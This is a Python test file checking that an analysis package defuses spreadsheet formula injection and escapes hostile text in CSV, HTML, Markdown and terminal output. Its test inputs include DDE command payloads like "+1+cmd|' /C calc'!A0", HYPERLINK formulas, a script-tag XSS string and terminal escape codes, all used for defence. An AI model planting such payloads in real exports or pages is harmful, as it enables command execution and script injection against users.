"""What a spreadsheet would compute is written so that it shows it as text."""

import csv
import io
import re

import numpy as np
import pandas as pd
import pytest

from analysis import spreadsheet
from analysis.compare import write_summary
from analysis.words import markdown, visible
from tests.analysis.fixtures import write_results

FORMULAS = [
    '=HYPERLINK("http://example.org/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_text_that_a_spreadsheet_would_compute_begins_with_an_apostrophe(formula):
    written = spreadsheet.text(pd.DataFrame({formula: [formula, "plain"], "n": [1, 2]}))
    head, first, second = csv.reader(io.StringIO(written))
    text = "'" + re.sub(r"^(\s)=", r"\1'=", formula.replace("\r", "\n"))  # behind a tab or a line's end a second one
    assert head == [text, "n"] and first == [text, "1"] and second == ["plain", "2"]


def test_a_line_within_a_cell_begins_no_row():
    written = spreadsheet.text(pd.DataFrame({"text": ["a\r=1+1", "b\r\n=2+2", "c"]}))
    assert written == 'text\n"a\n\'=1+1"\n"b\n\'=2+2"\nc\n'


@pytest.mark.parametrize("separator", [";", "\t"])
@pytest.mark.parametrize(
    "inner", ["{}=1+1", "{} @SUM(1)", '{}"=1+1"', "{}＝1+1{}-2+3", "\n=1+1", "\r\n+1+1", "{}\u200b=1"]
)
def test_no_cell_is_a_formula_in_a_spreadsheet_that_splits_at_another_sign(separator, inner):
    text = f"asked{inner.replace('{}', separator)}; then nothing"
    written = spreadsheet.text(pd.DataFrame({"cell": ["a"], "reason": [text]}))
    cells = [cell for row in csv.reader(io.StringIO(written), delimiter=separator) for cell in row]
    assert len(cells) > 2 and not any(re.match(r"[\s\"\u200b]*[=+\-@＝＋－＠]", cell) for cell in cells)
    numbers = pd.DataFrame({"reason": [f"lost{separator} -0.5{separator}+3e-2"]})
    assert spreadsheet.text(numbers) == numbers.to_csv(index=False, lineterminator="\n")


def test_all_else_is_written_as_before():
    table = pd.DataFrame(
        {
            "number": [-0.5, np.nan, 1e-9],
            "some": [1, None, 3],
            "text": ["-0.5", "+3", "-1e-3"],
            "names": ["a-b", "", "−0.3"],
            "mixed": ["x", -1, None],
            "yes": [True, False, True],
        }
    ).astype({"some": object})
    assert spreadsheet.text(table, digits="%.4g") == table.to_csv(index=False, lineterminator="\n", float_format="%.4g")


def test_hostile_reasons_in_a_studys_tables_and_pages(tmp_path):
    reason = "=HYPERLINK(1)<script>alert(1)</script>\x1b]0;owned\x07![x](http://example.org/a.png)"
    cells = write_results(tmp_path / "results", methods=("full", "mofo"), failed={"mofo": reason})
    shown = write_summary(results_root=tmp_path / "results", summary_dir=tmp_path / "summary", cells=cells, title="t")
    summary = {path.name: path.read_text(encoding="utf-8") for path in (tmp_path / "summary").glob("*.*")}
    assert "alert(1)" in shown and "\x1b" not in shown + summary["table.txt"] and r"\x1b]0;owned\x07" in shown
    assert "&lt;script&gt;alert(1)" in summary["report.html"] and r"!\[x\]" in summary["table.md"]
    assert not [name for name, text in summary.items() if name.endswith(".html") and "<script>alert" in text]
    for name, text in summary.items():
        if name.endswith(".csv"):
            assert not [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell.startswith("=")], name


def test_text_of_others_on_the_screen_and_in_markdown():
    assert visible("a\r\nb\x1b[2J\x07\x9b1m\u202e\tc\n") == "a\nb\\x1b[2J\\x07\\x9b1m\\u202e\tc\n"
    assert markdown("<b> [a](b) | c\n- d") == r"\<b\> \[a\](b) \| c - d"
